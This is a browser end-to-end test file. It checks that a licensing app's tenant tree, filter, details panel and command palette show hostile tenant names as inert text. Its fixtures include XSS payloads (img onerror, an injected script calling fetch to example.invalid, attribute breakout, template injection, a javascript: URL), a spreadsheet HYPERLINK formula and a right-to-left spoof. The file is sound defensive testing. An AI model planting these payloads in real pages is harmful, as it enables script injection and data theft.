// Names that mean harm, or only trouble: text on the page, and nothing else.
import assert from "node:assert/strict";
import { before, describe, it } from "node:test";
import { violations } from "../support/axe.mjs";
import { open, startBrowser } from "../support/page.mjs";
import { together } from "../support/processes.mjs";
import { startSeatree } from "../support/seatree.mjs";
import { filterBy, matches, runFromPalette, signInToDemo, tree } from "../support/steps.mjs";

/** What the page keeps of a name, in bytes. */
const LONGEST = 1_024;

const NAMES = {
  markup: "<img src=x onerror=alert(document.title)>",
  script: "</bdi></span><script>fetch('https://example.invalid/stolen')</script>",
  style: "<style>*{display:none}</style>",
  attribute: "\" onfocus=\"alert(1)\" autofocus x=\"",
  template: "{{constructor.constructor('alert(1)')()}} ${alert(1)} %s &lt;b&gt; &amp;",
  address: "javascript:alert(1)",
  formula: '=HYPERLINK("https://example.invalid","Invoice")',
  backwards: "\u202Egnp.ecioVni\u202C \u2066isolated",
  arabic: "شركة النور للاتصالات (قطر) 2",
  emoji: "👩‍👩‍👧‍👦 Family Ü🇪🇺 🏳️‍🌈",
  stacked: `Z${"\u0301\u0320".repeat(80)}algo`,
  invisible: "\u200B\u200D\u2060",
  lines: "first line\nsecond line\ttab\r\u0000\u0007end",
  spaces: "   ",
  empty: "",
  long: "W".repeat(10_000),
  words: "many words in one name ".repeat(450),
};

/** An address that every harmful name would lead to. */
const HARM = /example\.invalid|\/x$/;

let seatree, browser;

before(async () => {
  [seatree, browser] = await together([startSeatree(), startBrowser()]);
  const figures = () => ({
    msTeamsUsers: { assigned: 12, inUse: 7, inUseMsResourceAccount: 1, inUseMsUsers: 6 },
    sipTrunkChannels: { assigned: 2 },
  });
  const uuid = (number) => `00000000-0000-4000-8000-${String(number).padStart(12, "0")}`;
  const tenants = Object.values(NAMES).map((name, number) => ({
    name, uuid: uuid(number + 1), ...figures(),
    subscriptions: [{ name, id: number + 1, ...figures() }],
  }));
  // A license that is named like markup, too.
  tenants[0]["<b>license</b>"] = { assigned: 3, inUse: 1 };
  const { group } = seatree.truth.draas;
  const body = JSON.stringify({
    group: { name: NAMES.markup, uuid: group.uuid, distributors: [], resellers: [], tenants },
    ...figures(),
  });
  const fault = { path_contains: "/licenses", body, content_type: "application/json" };
  const set = await fetch(`${seatree.addresses.draas}/_sandbox/faults`, { method: "POST", body: JSON.stringify(fault) });
  assert.ok(set.ok, await set.text());
});

for (const [width, height] of [[1440, 900], [390, 844]]) {
  describe(`${width} px wide, a name`, () => {
    let tab, page;
    const asked = [];

    before(async () => {
      tab = await open(browser, seatree.url, { viewport: { width, height }, reducedMotion: "reduce" });
      page = tab.page;
      page.on("request", (request) => asked.push(request.url()));
      await signInToDemo(page);
      await runFromPalette(page, "expand everything");
      await tree(page).getByRole("row", { level: 4 }).first().waitFor();
    });

    /** The labels of the rows of a level, as they are in the document. */
    const labels = (level) => tree(page).locator(`[role=row][aria-level="${level}"]:not([hidden]) .label`);

    it("is shown as the text it is", async () => {
      const shown = new Set();
      await tree(page).locator("[role=row][tabindex='0']").focus();
      for (let rows = 0; rows < 3 + 2 * Object.keys(NAMES).length; rows += 1) {
        for (const name of await labels(3).allTextContents()) shown.add(name);
        await page.keyboard.press("ArrowDown");
      }
      const expected = Object.values(NAMES).map((name) => {
        const kept = Buffer.from(name).subarray(0, LONGEST).toString();
        return name === "" ? "(no name)" : kept;
      });
      for (const name of expected) assert.ok(shown.has(name), JSON.stringify(name.slice(0, 80)));
    });

    it("keeps its row's height and columns", async () => {
      const wrong = await tree(page).evaluate((grid) => {
        const rows = [...grid.querySelectorAll(".grid-space > [role=row]:not([hidden])")];
        const { height } = rows[0].getBoundingClientRect();
        return rows.flatMap((row) => {
          const box = row.getBoundingClientRect();
          const label = row.querySelector(".label").getBoundingClientRect();
          const next = row.querySelector("[role=gridcell]:nth-of-type(2)").getBoundingClientRect();
          const fits = box.height === height && label.right <= next.left;
          return fits ? [] : [row.textContent.slice(0, 60)];
        });
      });
      assert.deepEqual(wrong, []);
      assert.equal(await page.evaluate(() => document.documentElement.scrollWidth), width);
    });

    it("of each kind is found by the filter, and marked as text", async () => {
      // The group and a service are named like markup as well, another service like a formula.
      for (const [text, found] of [["<img src=x", 4], ["=hyperlink(", 3], ["</script>", 2], ["النور", 2], ["👩‍👩‍👧‍👦", 2]]) {
        await filterBy(page, text);
        await matches(page, found);
        await tree(page).locator("[role=row]:not([hidden]) mark").first().waitFor();
      }
      await filterBy(page, "");
    });

    it("of each kind has details", async () => {
      for (const name of [NAMES.markup, NAMES.backwards, NAMES.long.slice(0, LONGEST), NAMES.emoji, NAMES.empty]) {
        if (name === NAMES.empty) {
          await filterBy(page, "00000000-0000-4000-8000-000000000015");
        } else {
          await filterBy(page, name.slice(0, 60));
        }
        const label = page.locator(".label", { hasText: (name || "(no name)").slice(0, 60) });
        await page.locator(".matches-place").getByText(/^\d match/).waitFor();
        const row = tree(page).getByRole("row", { level: 3 }).filter({ has: label }).first();
        await row.focus();
        await row.and(page.locator(":focus")).waitFor();
        await page.keyboard.press("Enter");
        const details = page.getByRole("complementary", { name: "Details" });
        const heading = details.getByRole("heading", { level: 2 });
        await page.waitForFunction(([heading, name]) => heading.textContent === name,
          [await heading.elementHandle(), name || "(no name)"]);
        const wide = await details.evaluate((panel) => panel.scrollWidth - panel.clientWidth);
        assert.equal(wide, 0, "nothing stands out at the side");
        await details.getByRole("button", { name: "Copy the link to this place" }).waitFor();
        assert.deepEqual(await violations(page), []);
        await details.getByRole("button", { name: "Close the details" }).click();
      }
      await filterBy(page, "");
    });

    it("of each kind is found by the palette", async () => {
      await page.keyboard.press("Control+k");
      const palette = page.getByRole("dialog", { name: "Go to a node or run a command" });
      const field = palette.getByRole("combobox");
      for (const name of [NAMES.markup, NAMES.script, NAMES.backwards, NAMES.long, NAMES.words]) {
        await field.fill(name.slice(0, 40));
        await palette.getByRole("option").first().waitFor();
        const wide = await palette.evaluate((dialog) => dialog.scrollWidth - dialog.clientWidth);
        assert.equal(wide, 0, "nothing stands out at the side");
        const first = palette.getByRole("option").first().locator(".label").first();
        assert.ok((await first.textContent()).startsWith(name.slice(0, 20)), name.slice(0, 40));
        const path = await palette.getByRole("option").first().locator(".dim").boundingBox();
        assert.ok(path.width > 50, "there is room to tell where it stands");
      }
      await field.fill(NAMES.emoji);
      await palette.getByRole("option", { name: NAMES.emoji }).first().waitFor();
      await page.keyboard.press("Enter");
      await tree(page).locator("[role=row]:focus").getByText(NAMES.emoji).waitFor();
    });

    it("in a column's header is text, too", async () => {
      if (width < 1000) return;
      await tree(page).getByRole("columnheader", { name: "<b>license</b>", exact: true }).waitFor();
      assert.equal(await tree(page).locator("b, img, script, style").count(), 0);
    });

    it("ran nothing, asked for nothing and moved nothing", async () => {
      assert.deepEqual(tab.faults(), []);
      assert.deepEqual(asked.filter((url) => HARM.test(url)), []);
      assert.equal(await page.locator("main img, main script, main style, dialog img").count(), 0);
      assert.match(page.url(), /#\/licenses/);
    });
  });
}
